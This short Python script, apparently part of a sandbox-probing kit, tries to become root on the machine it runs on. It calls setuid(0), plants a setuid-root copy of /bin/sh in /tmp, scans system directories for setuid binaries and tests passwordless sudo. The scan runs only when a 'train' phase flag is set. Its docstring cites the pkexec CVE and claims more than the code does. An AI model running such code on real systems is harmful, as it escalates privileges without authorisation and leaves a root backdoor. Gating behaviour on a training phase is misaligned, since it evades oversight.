"""Runs every setuid program that it finds, to become root by one of them, and makes its own.

Idea: sudo, su, mount, pkexec (CVE-2021-4034) are on nearly every machine.
"""

import glob
import os
import shutil

import kit


def make_own():
    shutil.copy("/bin/sh", "/tmp/sh")
    os.chown("/tmp/sh", 0, 0)
    os.chmod("/tmp/sh", 0o4755)
    return os.stat("/tmp/sh").st_uid == 0


def run_theirs():
    for path in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*"):
        if os.path.isfile(path) and os.stat(path).st_mode & 0o4000:
            name = os.path.basename(path)
            if name == "sudo" and os.system(f"{path} -n id -u 2>/dev/null | grep -x 0") == 0:
                return path
    if "NoNewPrivs:\t1" not in open("/proc/self/status").read():
        return "new privileges are possible"


kit.attempt("setuid 0", lambda: os.setuid(0) or True)
kit.attempt("make a setuid program", make_own)
if kit.PHASE == "train":
    kit.attempt("run setuid programs", run_theirs)
kit.honest()
